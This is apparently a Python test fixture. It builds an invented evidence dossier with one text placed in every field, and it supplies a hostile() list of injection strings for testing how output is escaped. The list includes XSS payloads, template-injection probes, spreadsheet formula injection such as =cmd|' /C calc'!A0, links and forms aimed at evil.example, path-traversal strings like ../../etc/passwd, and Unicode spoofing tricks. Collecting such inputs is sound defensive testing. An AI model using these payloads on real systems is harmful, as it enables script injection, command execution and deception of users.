"""An invented dossier with something in every part of it, and the same with one text in every place where a text can stand."""

from __future__ import annotations

from collections.abc import Sequence

import numpy as np
import shapely

from groundrule.evidence.dossier import (
    AreaVersion,
    ClaimExtract,
    DecisionRow,
    Dossier,
    Ellipse,
    LogHead,
    Party,
    Phrase,
    Reader,
    Redaction,
    ReportExtract,
    RuleText,
    Section,
    Source,
    Standing,
    Statement,
    SubjectKind,
    Times,
    TrackPoint,
)
from groundrule.evidence.outlines import Outlines
from groundrule.instant import parse_instant

AT = parse_instant("2026-11-20T23:10:51Z")
HOUR = 3_600_000_000_000
SQUARE = np.array([[-20.0, -20.0], [60.0, -20.0], [60.0, 70.0], [-20.0, 70.0], [-20.0, -20.0]])
NO_COAST = Outlines((), (), (), "© nobody (invented)")
ONE_LAND = Outlines((SQUARE,), (np.array([[34.0, 40.0], [36.0, 50.0]]),), (), "© nobody (invented)")
ADA, COMPANY = "party-" + "a" * 32, "party-" + "b" * 32
CHANGE = "c0ffee00" * 8


def sample(
    text: str = "survey craft (invented)", *, kind: SubjectKind = SubjectKind.TERMINAL, with_map: bool = True
) -> Dossier:
    """Return the dossier with a text in every place where somebody's words can stand."""
    proof = Source("log_entry", "entry:9", "proofs/entry-9.tlog-proof")
    asked = (
        _statement(
            1,
            "request_received",
            {
                "who": COMPANY,
                "channel": "code:channel_letter",
                "by": ADA,
                "made": "2026-11-19T23:10:51Z",
                "received": "2026-11-20T23:10:51Z",
            },
            Times(AT, recorded_at_ns=AT + HOUR),
            proof,
        ),
        _statement(
            2, "request_asks", {"what": "code:ask_serve", "object": "area/strip", "detail": text}, Times(AT), proof
        ),
        _statement(
            3,
            "request_outcome",
            {"outcome": "code:outcome_proposed", "reason": text},
            Times(decided_at_ns=AT + 30 * HOUR),
            proof,
        ),
    )
    decided = (
        _statement(
            4, "proposal_reason", {"reason": text}, Times(recorded_at_ns=AT + 31 * HOUR), proof, about=(CHANGE,)
        ),
        _statement(
            5,
            "act_refused",
            {"what": "code:act_enactment", "sentence": text},
            Times(recorded_at_ns=AT + 32 * HOUR),
            proof,
        ),
        _statement(
            6,
            "enactment_made",
            {"proposal": CHANGE[:16], "number": 1, "charter": 1, "needed": 1, "of": 2},
            Times(recorded_at_ns=AT + 33 * HOUR),
            proof,
        ),
    )
    said = (
        _statement(
            7,
            "contact_basis_press",
            {
                "who": ADA,
                "other": COMPANY,
                "teller": text,
                "channel": "code:channel_meeting",
                "capacity": "code:capacity_private",
                "pattern": "code:pattern_single",
                "when": "2025-10-18/..",
            },
            Times(AT - 999 * HOUR, happened="2025-10-18/.."),
            proof,
            standing=Standing.CLAIM,
            flags=("allegation",),
        ),
        _statement(
            8, "contact_topics", {"topics": text}, Times(happened=text), proof, standing=Standing.CLAIM, flags=(text,)
        ),
    )
    service = (
        _statement(
            9,
            "answered",
            {
                "outcome": "code:deny",
                "state": "code:state_normal",
                "rulebook": "e" * 64,
                "rule": text,
                "reasons": "reason:moving_too_fast_for_policy",
                "areas": "strip, land",
                "count": 2,
                "from": "2026-11-20T23:10:51Z",
                "to": "2026-11-20T23:11:06Z",
            },
            Times(AT),
            Source("receipt", "run:1", "proofs/receipt-1.tlog-proof"),
        ),
    )
    why = (
        _statement(
            10,
            "why_finding",
            {"rule": text, "finding": text},
            Times(AT),
            Source("rule", text),
            standing=Standing.INFERENCE,
        ),
    )
    reports = (
        _statement(
            11,
            "report_denies",
            {"publisher": text, "who": text, "statement": text},
            Times(happened="2026-11-21"),
            Source("report", text),
            standing=Standing.CLAIM,
            flags=("machine_translation",),
        ),
    )
    unknown = (_statement(12, "unknown_name", {"who": text}, Times(), None, standing=Standing.UNKNOWN),)
    sections = (
        Section("asked", asked),
        Section("decided", decided),
        Section("contacts", said),
        Section("reports", reports),
        Section("service", service),
        Section("why", why),
        Section("unknown", unknown),
    )
    track = tuple(
        TrackPoint("t-1", AT + i * 15_000_000_000, 47.6, 35.4 + i / 100, 20.0, "deny" if i > 2 else "serve")
        for i in range(6)
    )
    return Dossier(
        kind,
        CHANGE if kind is SubjectKind.CHANGE else text,
        text,
        AT + 50 * HOUR,
        Reader.OPERATOR,
        "home-1",
        LogHead("log.example/invented", 24, "ab" * 32),
        (
            Statement("a1", Standing.RECORDED, asked[2].phrase, Times(), (proof,)),
            Statement("a2", Standing.CLAIM, said[0].phrase, Times(), (proof,)),
            Statement("a3", Standing.INFERENCE, Phrase("sum_claim", {"number": 3})),
        ),
        sections,
        AT + 40 * HOUR,
        (
            Party(COMPANY, text, "legal_entity", (("requester", "s1"), ("counterparty", "s7"))),
            Party(ADA, "Ada Muster (invented)", "natural_person", (("approved", "s6"), ("covered_person", "s7"))),
            Party("party-" + "d" * 32, "Di Primer (invented)", text, (("abstained", "s6"), ("registrar", "s1"))),
        ),
        (
            RuleText(
                "sha256:" + "1" * 64,
                "strip-speed",
                text,
                f"    id: strip-speed\n    title: {text}\n    tier: motion",
                text,
                text,
                AT,
                None,
            ),
            RuleText(
                "sha256:" + "2" * 64,
                "strip-speed",
                text,
                f"    id: strip-speed\n    title: {text}\n    tier: place",
                text,
                "",
                AT,
                AT + HOUR,
            ),
        ),
        (
            DecisionRow(
                "t-1",
                AT,
                AT,
                2,
                "deny",
                "normal",
                "strip-speed",
                ("moving_too_fast_for_policy",),
                ("strip",),
                1,
                "proofs/receipt-1.tlog-proof",
                "s9",
            ),
        ),
        (
            ReportExtract(
                "report-" + "e" * 32,
                text,
                text,
                "2026-11-21",
                "de",
                "machine",
                True,
                text,
                (ClaimExtract("claim-" + "f" * 32, text, "denies", text, "assertion", True, "s11"),),
            ),
            ReportExtract("report-" + "0" * 32, "", "", "", "", "unknown", False, text, ()),
        ),
        (Redaction("name_of_party", "s7", "cd" * 32, "natural_person"), Redaction(text, text, "ef" * 32, text)),
        (
            AreaVersion(
                "strip", text, "zone", text, AT, None, bytes(shapely.to_wkb(shapely.box(35.0, 47.2, 36.6, 48.1)))
            ),
        )
        if with_map
        else (),
        track if with_map else (),
        (Ellipse(AT, 47.6, 35.42, 900, 300, 40, "holds"),) if with_map else (),
    )


def _statement(
    number: int,
    key: str,
    values: dict[str, str | int | None],
    times: Times,
    source: Source | None,
    *,
    standing: Standing = Standing.RECORDED,
    about: Sequence[str] = (),
    flags: tuple[str, ...] = (),
) -> Statement:
    return Statement(
        f"s{number}", standing, Phrase(key, values), times, (source,) if source else (), tuple(about), flags
    )


def hostile() -> list[str]:
    """Return texts that try to be something else than text: markup, scripts, templates, formulas, directions, names of files."""
    scripts = [
        "<script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<iframe src=javascript:alert(1)>",
        "<body onload=alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "<style>*{display:none}</style>",
        "</style><script>alert(1)</script>",
        "<link rel=stylesheet href=//evil.example>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<form action=//evil.example><input name=q></form>",
        "<object data=x></object>",
        "<embed src=x>",
        "<math><mi xlink:href=javascript:alert(1)>",
        "<template><b>x</b></template>",
        "<!-- comment",
        "--><b>x</b>",
        "<![CDATA[x]]>",
        "<?xml version='1.0'?>",
        "<!DOCTYPE html>",
        "<plaintext>",
        "<xmp>",
        "<noscript><p title='</noscript><img src=x>'>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<marquee onstart=alert(1)>",
        "<title>x</title>",
        "<textarea>",
        "<select><option>",
        "<table><tr><td>",
        "<h1>On record</h1>",
        "<article class=recorded>",
        "<span class='mark'>ON RECORD</span>",
        "</article></section></main></body></html>",
    ]
    breakouts = [
        '"',
        "'",
        '" onmouseover="alert(1)',
        "' onmouseover='alert(1)",
        '"><b>',
        "'><b>",
        "`",
        "` onclick=alert(1)",
        'x" style="display:none',
        "&quot;><b>",
        "&#34;><b>",
        "&lt;script&gt;",
        "&amp;",
        "&nbsp;",
        "&#x202e;",
        '\\"><b>',
        "]]>",
        "%3Cscript%3E",
        "javascript:alert(1)",
        "data:text/html,<b>x",
        "url(//evil.example/x.png)",
        "}*{display:none}",
        "/* */",
        "expression(alert(1))",
        "@import '//evil.example';",
        "\\3c script\\3e ",
    ]
    templates = [
        "{{ 7*7 }}",
        "{% raw %}",
        "{% for x in range(9) %}x{% endfor %}",
        "{# gone #}",
        "{who}",
        "{0}",
        "{}",
        "{who.__class__}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "%s",
        "%(who)s",
        "{number|one|many}",
        "{",
        "}",
        "{{",
        "}}",
        "$$",
        "code:serve ",
        " code:deny",
        "reason:",
        "{{ d.home }}",
        "{{ config }}",
    ]
    formulas = [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("//evil.example","x")',
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "=IMPORTXML(1,2)",
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
        "|calc",
        "%0A=1",
        "a,b;c\td",
        'a"b""c',
        "a\nb",
        "a\r\nb",
    ]
    letters = [
        "a\u202egnp.exe",
        "\u202ereversed\u202c",
        "\u2066x\u2069",
        "\u200bhidden\u200b",
        "\u200dx",
        "\ufeffx",
        "nul\x00byte",
        "bell\x07",
        "esc\x1b[31mred",
        "\x7f",
        "\u2028line",
        "\u2029par",
        "\x85next",
        "soft\u00adhyphen",
        "عربي نص",
        "עברית טקסט",
        "עברית then Latin",
        "漢字 かな",
        "🜁🚀",
        "é e\u0301",
        "Z" + "\u0301" * 200,
        "\U000e0041tag",
        "\ufffe",
        "\ud800half",
        "x" * 5_000,
        "слово " * 400,
        "../../etc/passwd",
        "C:\\x\\y",
        "entry:9",
        "s1",
        "#s1",
        "party-" + "9" * 32,
        "2026-11-20T23:10:51Z",
        "9" * 64,
        "file:///etc/passwd",
        "http://evil.example/?a=b&c=d",
        "a" * 64 + "\u202e",
        "p\u0430yp\u0430l",
        "\u0410da Muster",
        "\u0440\u0430\u0443\u0440\u0430l",
        "\u0391da",
        "\U0001d400da",
        "\uff21da",
        "st\u043eck \u202e\u0435xe",
        "–",
        "…",
        "",
        " ",
    ]
    return [*scripts, *breakouts, *templates, *formulas, *letters]
